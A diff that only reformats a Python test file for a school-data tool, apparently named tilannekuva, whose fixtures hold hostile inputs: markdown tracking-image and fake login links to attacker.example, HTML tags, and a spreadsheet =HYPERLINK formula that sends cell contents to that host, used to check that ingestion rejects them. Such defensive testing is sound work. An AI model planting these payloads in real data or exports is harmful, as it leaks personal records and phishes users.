@@ -21,8 +21,10 @@ import pytest
 from tests.helpers import serve
 from tilannekuva.settings import PROJECT_ROOT
 
-HOSTILE_UNIT = ("Lundbackas skola ![logo](https://attacker.example/track.png?u=164) "
-                "[Kirjaudu uudelleen](https://attacker.example/login)")
+HOSTILE_UNIT = (
+    "Lundbackas skola ![logo](https://attacker.example/track.png?u=164) "
+    "[Kirjaudu uudelleen](https://attacker.example/login)"
+)
 HOSTILE_GROUP = '7A <a href="https://attacker.example/g">avaa</a> <img src="https://attacker.example/g.png">'
 HOSTILE_SURNAME = '=HYPERLINK("https://attacker.example/x?d="&A3&B3&C3&D3,"Mäkinen")'
 HOSTILE_FIRST_NAME = "<b>Aino</b> ![p](https://attacker.example/p.png)"
@@ -32,13 +34,19 @@ HOSTILE_YEAR = " ![y](https://attacker.example/y.png)"
 HOSTILE_HEADER = "![h](https://attacker.example/header.png) [Lataa](https://attacker.example/h)"
 OUTSIDE = "attacker.example"
 
-DOWNLOAD_SECONDS = 4        # how long a clicked download stays at /media on the test server
+DOWNLOAD_SECONDS = 4  # how long a clicked download stays at /media on the test server
 
 
 def _cli(home: Path, *args: str) -> subprocess.CompletedProcess:
     env = {**os.environ, "TILANNEKUVA_DATA_DIR": str(home), "TILANNEKUVA_MODE": "demo"}
-    return subprocess.run([sys.executable, "-m", "tilannekuva.cli", *args], env=env, cwd=PROJECT_ROOT,
-                          capture_output=True, text=True, timeout=600)
+    return subprocess.run(
+        [sys.executable, "-m", "tilannekuva.cli", *args],
+        env=env,
+        cwd=PROJECT_ROOT,
+        capture_output=True,
+        text=True,
+        timeout=600,
+    )
 
 
 def hostile_exports(warehouse_file: Path, out: Path) -> Path:
@@ -77,7 +85,8 @@ def hostile_home(demo_home, tmp_path_factory) -> Path:
     assert loaded.returncode == 0, loaded.stdout + loaded.stderr
     rejected = tmp_path_factory.mktemp("rejected")
     pl.read_csv(exports / "yksikot.csv", infer_schema=False).head(3).with_columns(
-        pl.lit("x").alias(HOSTILE_HEADER)).write_csv(rejected / "yksikot.csv")
+        pl.lit("x").alias(HOSTILE_HEADER)
+    ).write_csv(rejected / "yksikot.csv")
     refused = _cli(home, "ingest", str(rejected))
     assert refused.returncode == 1, refused.stdout + refused.stderr
     return home
